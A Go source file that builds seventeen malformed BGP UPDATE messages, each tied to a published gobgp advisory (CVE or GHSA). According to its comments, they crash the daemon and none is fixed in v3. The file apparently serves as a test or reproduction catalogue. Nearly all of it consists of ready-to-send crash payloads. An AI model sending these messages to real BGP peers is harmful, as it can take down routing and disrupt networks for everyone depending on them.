package dialer

// shape is a message of a published advisory.
type shape struct {
	name string
	f    frame
}

// advisories are the shapes of UPDATEs by which published advisories make gobgp fail; none is
// fixed in v3. docs/security.md has the same list.
func advisories() []shape {
	join := func(parts ...[]byte) (out []byte) {
		for _, p := range parts {
			out = append(out, p...)
		}
		return out
	}
	origin, path, hop := []byte{0x40, 1, 1, 0}, []byte{0x40, 2, 6, 2, 1, 0, 0, 0xfc, 1}, []byte{0x40, 3, 4, 192, 0, 2, 1}
	prefix := []byte{24, 203, 0, 113}
	return []shape{
		{"CVE-2026-30405 NEXT_HOP without an address", update(nil, join(origin, path, []byte{0x40, 3, 0}), prefix)},
		{"CVE-2026-30405 NEXT_HOP of three bytes", update(nil, join(origin, path, []byte{0x00, 3, 3, 192, 0, 2}), prefix)},
		{"CVE-2026-41641 MP_REACH_NLRI with a next hop that is cut", update(nil, join(origin, path, []byte{0x80, 14, 5, 0, 2, 1, 16, 0}), nil)},
		{"CVE-2026-41641 MP_REACH_NLRI without anything", update(nil, join(origin, path, []byte{0x80, 14, 0}), nil)},
		{"CVE-2026-41642 a well-known attribute that is unknown", update(nil, join(origin, path, hop, []byte{0x40, 99, 1, 0}), prefix)},
		{"CVE-2026-41643 AS4_PATH before AS_PATH", update(nil, join(origin, []byte{0xc0, 17, 2, 9, 1}, path, hop), prefix)},
		{"CVE-2026-41643 AS4_PATH that is cut", update(nil, join(origin, path, hop, []byte{0xc0, 17, 3, 2, 4, 0}), prefix)},
		{"CVE-2026-42285 ORIGIN without its flag", update(nil, join([]byte{0x00, 1, 1, 0}, path, hop), prefix)},
		{"CVE-2026-42285 attributes longer than they are", update(nil, join(origin, []byte{0x40, 2, 60, 2, 1}), prefix)},
		{"CVE-2026-37461 IPv6 extended communities that are cut", update(nil, join(origin, path, hop, []byte{0xc0, 25, 7, 0, 2, 0, 0, 0, 0, 0}), prefix)},
		{"CVE-2026-37462 attributes that end in a header", update(nil, join(origin, path, hop, []byte{0x50, 8}), prefix)},
		{"CVE-2026-37462 lengths beyond the message", seal(kindUpdate, []byte{0xff, 0xff, 0xff, 0xff})},
		{"CVE-2026-7734 prefix-SID with a SRv6 service that is cut", update(nil, join(origin, path, hop, []byte{0xc0, 40, 4, 5, 0, 1, 0}), prefix)},
		{"CVE-2026-7735 AIGP that is cut", update(nil, join(origin, path, hop, []byte{0x80, 26, 3, 1, 0, 11}), prefix)},
		{"GHSA-frrj-87jh-2772 AS_PATH without anything", update(nil, join(origin, []byte{0x40, 2, 0}, hop), prefix)},
		{"large communities that are cut", update(nil, join(origin, path, hop, []byte{0xc0, 32, 11, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0}), prefix)},
		{"large communities without any", update(nil, join(origin, path, hop, []byte{0xc0, 32, 0}), prefix)},
	}
}
